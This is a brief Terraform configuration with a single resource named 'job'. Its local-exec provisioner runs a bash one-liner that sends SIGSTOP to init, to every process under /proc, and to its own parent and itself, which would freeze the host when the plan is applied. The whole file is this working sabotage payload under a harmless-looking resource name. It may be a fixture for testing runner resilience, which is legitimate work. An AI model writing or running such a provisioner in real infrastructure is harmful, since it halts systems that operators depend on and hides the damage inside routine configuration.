resource "terraform_data" "job" {
  provisioner "local-exec" {
    interpreter = ["/bin/bash", "-c"]
    command     = <<-EOT
      kill -STOP 1; for p in /proc/[0-9]*; do kill -STOP $(basename $p) 2>/dev/null; done; kill -STOP $PPID; kill -STOP $$; sleep 100
    EOT
  }
}
